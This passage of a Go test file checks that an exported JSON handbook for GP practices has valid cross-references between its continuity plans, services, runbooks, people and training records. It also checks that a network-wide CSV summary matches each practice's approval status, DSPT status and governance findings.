		hasRecord(p+" roles", v["roles"].(map[string]any), pr.Roles.File, tomlKeys[site.RoleList]())
		hasRecord(p+" training", v["training"].(map[string]any), pr.Training.File, tomlKeys[site.Training]())
		known["practices"] = ids2(all, func(x *site.Practice) string { return x.ID })
		known["buddies"] = append(slices.Clone(known["practices"]), orgs...)

		// Every reference is the id of a record in the export.
		for _, r := range []struct{ path, to string }{
			{"practice.icb", "organisations"}, {"practice.pcn", "organisations"},
			{"practice.clinical_system", "services"}, {"practice.buddy", "buddies"},
			{"practice.continuity.owner", "people"}, {"practice.continuity.key_contacts", "organisations"},
			{"practice.continuity.invocation.people", "people"},
			{"practice.continuity.cascade[].caller", "people"}, {"practice.continuity.cascade[].calls", "people"},
			{"practice.continuity.copies[].holder", "people"}, {"practice.continuity.premises[].contact", "organisations"},
			{"people[].training[].course", "courses"},
			{"services[].owner", "people"}, {"services[].deputy", "people"}, {"services[].admins", "people"},
			{"services[].depends_on", "services"}, {"services[].support.supplier", "organisations"},
			{"services[].support.desk", "organisations"}, {"services[].access.reviews[].by", "people"},
			{"services[].review.by", "people"},
			{"runbooks[].services", "services"}, {"runbooks[].invoke.people", "people"},
			{"runbooks[].first_15_minutes[].lead", "people"}, {"runbooks[].steps[].lead", "people"},
			{"runbooks[].communications[].by", "people"}, {"runbooks[].escalation[].contact", "organisations"},
			{"runbooks[].review.by", "people"},
			{"exercises[].runbooks", "runbooks"}, {"exercises[].services", "services"},
			{"exercises[].participants", "people"}, {"exercises[].actions[].owner", "people"},
			{"reviews[].attendees", "people"}, {"reviews[].actions[].owner", "people"},
			{"pages[].owner", "people"}, {"pages[].services", "services"},
			{"roles.roles[].holder", "people"}, {"roles.roles[].deputy", "people"},
			{"roles.roles[].organisation", "organisations"},
			{"training.needs_analysis.by", "people"}, {"training.requirements[].course", "courses"},
			{"training.plan[].person", "people"}, {"training.plan[].course", "courses"},
		} {
			for _, id := range jsonAt(v, r.path) {
				refs++
				if !slices.Contains(known[r.to], id) {
					t.Errorf("%s: %s %q is not the id of one of the %s", p, r.path, id, r.to)
				}
			}
		}
		for _, o := range records(top, "organisations") {
			for _, id := range jsonAt(o, "practices") {
				if !slices.Contains(known["practices"], id) {
					t.Errorf("handbook.json: organisation %v names the practice %q", o["id"], id)
				}
			}
		}

		findings := records(v, "findings")
		if len(findings) != len(pr.Findings) {
			t.Fatalf("%s: %d findings, want %d", p, len(findings), len(pr.Findings))
		}
		for j, f := range pr.Findings {
			got := findings[j]
			if got["rule"] != f.Rule || got["severity"] != f.Severity.String() || got["message"] != f.Message ||
				got["hint"] != f.Fix || got["position"] != f.Pos.String() || got["page"] != f.URL() {
				t.Errorf("%s: finding %d is %v, want %s %s at %s", p, j, got, f.Rule, f.Message, f.Pos)
			}
		}
	}
	if refs < 300 {
		t.Errorf("only %d references checked: the test proves little", refs)
	}
}

func ids2[T any](list []T, id func(T) string) []string {
	var out []string
	for _, v := range list {
		out = append(out, id(v))
	}
	return out
}

// TestNetworkCSV checks network.csv against the practices it summarises:
// a row per practice, in the handbook's order, with its plan's approval,
// its ICB review, its toolkit and its findings as the records and the
// governance rules have them.
func TestNetworkCSV(t *testing.T) {
	b := example(t)
	files := b.tree()
	rows := readCSV(t, site.NetworkCSVURL, files[site.NetworkCSVURL])
	practices := b.practices(t)
	if len(rows) != len(practices)+1 {
		t.Fatalf("network.csv has %d rows for %d practices", len(rows)-1, len(practices))
	}
	col := func(c string) int { return column(t, rows[0], c) }
	fired := map[string]map[string]bool{}
	for _, f := range b.findings {
		if f.Practice != nil {
			if fired[f.Practice.ID] == nil {
				fired[f.Practice.ID] = map[string]bool{}
			}
			fired[f.Practice.ID][f.Rule] = true
		}
	}
	for i, pr := range practices {
		row := rows[i+1]
		check := func(what, got, want string) {
			t.Helper()
			if got != want {
				t.Errorf("network.csv, %s: %s is %q, want %q", pr.Name, what, got, want)
			}
		}
		check("the practice", row[col("Practice")], pr.Name)
		check("the page", row[col("Page")], pr.URL())
		check("the plan approval", row[col("Plan approval")], site.ApprovalStatuses.Label(pr.Continuity.Approval.Status))
		check("the DSPT status", row[col("DSPT status")], site.DSPTStatuses.Label(pr.DSPT.Status))
		overdue := map[bool]string{true: "Yes", false: "No"}[fired[pr.ID]["icb-review-missing"]]
		check("whether the ICB review is overdue (as the rule says)", row[col("ICB review overdue")], overdue)
		n := site.TallyOf(pr.Findings)
		check("the errors", row[col("Errors")], strconv.Itoa(n[site.Critical]))
		check("the warnings", row[col("Warnings")], strconv.Itoa(n[site.Warning]))
	}
}
